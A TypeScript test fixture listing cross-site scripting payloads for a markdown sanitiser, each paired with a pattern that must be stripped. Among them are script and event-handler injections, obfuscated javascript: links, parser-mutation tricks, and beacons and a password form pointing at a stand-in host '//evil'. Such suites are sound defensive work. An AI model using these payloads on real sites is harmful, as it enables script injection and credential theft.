/** Text that tries to do harm. */
interface Hostile {
  kind: string; // its class, by number: "5 javascript: link"
  markdown: string;
  gone: RegExp; // must not be in what is made of it
}

/** What a page that shows a stranger's text must stand. Of the tests, in Node and in a browser. */
export const hostile: readonly Hostile[] = [
  {
    kind: "1 script",
    markdown: "<script>alert(1)</script> <ScRiPt/x>alert(2)</sCrIpT>",
    gone: /<script/i,
  },
  {
    kind: "2 handlers",
    markdown: "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    gone: /onerror|<svg/,
  },
  { kind: "2 handlers", markdown: "<details open ontoggle=alert(1)>a</details>", gone: /alert/ },
  {
    kind: "3 out of an attribute",
    markdown: '<b title="x" autofocus onfocus=alert(1) x="">a</b>',
    gone: /alert/,
  },
  { kind: "5 javascript:", markdown: "[x](javascript:alert(1))", gone: /alert/ },
  {
    kind: "6 entities",
    markdown: "[x](javascript&#58;alert(1)) [x](&#106;avascript:alert(1))",
    gone: /alert/,
  },
  { kind: "6 entities", markdown: "[x](javascript&colon;alert(1))", gone: /alert/ },
  {
    kind: "7 controls",
    markdown: "<a href='java\tscript:alert(1)'>x</a><a href='\u0001javascript:alert(1)'>y</a>",
    gone: /alert/,
  },
  { kind: "7 controls", markdown: "<a href='jav&#x0A;ascript:alert(1)'>x</a>", gone: /alert/ },
  { kind: "8 autolink", markdown: "<javascript:alert(1)>", gone: /href/ },
  { kind: "8 reference", markdown: "[r]\n\n[r]: javascript:alert(1)", gone: /alert/ },
  {
    kind: "9 data:",
    markdown: "[x](data:text/html;base64,PHNjcmlwdD4=) ![](data:image/svg+xml;base64,AA)",
    gone: /data:/,
  },
  { kind: "9 vbscript:", markdown: "[x](vbscript:msgbox(1))", gone: /vbscript/ },
  {
    kind: "10 MathML",
    markdown: "<math><mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
    gone: /alert/,
  },
  {
    kind: "11 second reading",
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    gone: /<img|<noscript/,
  },
  {
    kind: "12 deep",
    markdown: `${"<div>".repeat(500)}<math><style><img src onerror=alert(1)>`,
    gone: /alert/,
  },
  {
    kind: "13 raw text",
    markdown: "<xmp><img src=x onerror=alert(1)></xmp>",
    gone: /<xmp|onerror/,
  },
  {
    kind: "13 raw text",
    markdown: "<textarea><img src=x onerror=alert(1)></textarea>",
    gone: /<textarea|onerror/,
  },
  {
    kind: "13 raw text",
    markdown: "<template><img src=x onerror=alert(1)></template>",
    gone: /alert/,
  },
  {
    kind: "13 raw text",
    markdown: "<plaintext><img src=x onerror=alert(1)>",
    gone: /<plaintext|onerror/,
  },
  {
    kind: "13 raw text",
    markdown: "Put it in the <title> element.\n\n</title><img src=x onerror=alert(1)>",
    gone: /<title|onerror/,
  },
  {
    kind: "13 raw text",
    markdown: "<noembed><noframes><iframe>\n\n</iframe><svg onload=alert(1)>",
    gone: /<(?:noembed|noframes|iframe|svg)/,
  },
  {
    kind: "13 raw text",
    markdown: "<select><template><object>\n\n<script>alert(1)</script>",
    gone: /<(?:select|template|object|script)/,
  },
  {
    kind: "13 a tag without an end",
    markdown: '<div title="\n\n"><img src=x onerror=alert(1)>',
    gone: /onerror=|<div/,
  },
  {
    kind: "13 a tag read in two ways",
    markdown: '<div>\n<a ="x> <title> </title><img src=x onerror=alert(1)> ">',
    gone: /<title|<img/,
  },
  {
    kind: "14 clobbering",
    markdown: "<form id=x><input name=attributes><img name=body></form>",
    gone: /name=|<input|<form/,
  },
  {
    kind: "15 frames",
    markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object>',
    gone: /<(?:iframe|script|object)|data=/,
  },
  {
    kind: "15 base",
    markdown:
      '<base href=//evil><meta http-equiv=refresh content="0;url=//evil"><embed src=//evil>',
    gone: /evil/,
  },
  {
    kind: "16 style",
    markdown:
      "<b style='position:fixed;background:url(//evil)'>a</b><style>@import '//evil'</style>",
    gone: /<style|style=/,
  },
  {
    kind: "16 the site's classes",
    markdown: "<div class='fixed inset-0 bg-surface alert'>a</div>",
    gone: /fixed|inset|bg-/,
  },
  {
    kind: "17 beacons",
    markdown: "<img srcset=//evil><video poster=//evil><a ping=//evil href=/x>a</a>",
    gone: /evil/,
  },
  {
    kind: "18 forms",
    markdown:
      "<form action=//evil><input type=password><button formaction=//evil>a</button></form>",
    gone: /evil|<form|<input|<button/,
  },
  {
    kind: "19 animation",
    markdown:
      "<svg><a><animate attributeName=href values=javascript:alert(1) /></a><use href='data:x'/></svg>",
    gone: /alert|animate|use/,
  },
  {
    kind: "25 polyglot",
    markdown:
      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
    gone: /<svg/i,
  },
  {
    kind: "4 out of a description",
    markdown: '![a\'"`onerror=alert(1)](/x "t\' onload=alert(1)")',
    gone: /"\s*on(?:error|load)=/,
  },
  { kind: "20 replacement", markdown: "$& $` $1 <img src=x onerror=alert(1)>$$", gone: /onerror/ },
  { kind: "21 group", markdown: "(?<x><img src=x onerror=alert(1)>)", gone: /onerror/ },
  { kind: "22 key", markdown: '{"<img src=x onerror=alert(1)>":1}', gone: /onerror/ },
  {
    kind: "23 prototype",
    markdown: "<constructor __proto__=1 onclick=alert(1)>a</constructor> [__proto__][constructor]",
    gone: /onclick/,
  },
  {
    kind: "24 direction",
    markdown: "<b dir=evil>a</b> [x](java\u202escript:alert(1)) [y](\u2066javascript:alert(1))",
    gone: /href="[^"]*javascript|dir=/,
  },
  {
    kind: "26 an answer",
    markdown: '{"city":"<img src=x onerror=alert(1)>","org":{"a":1}}',
    gone: /onerror/,
  },
];
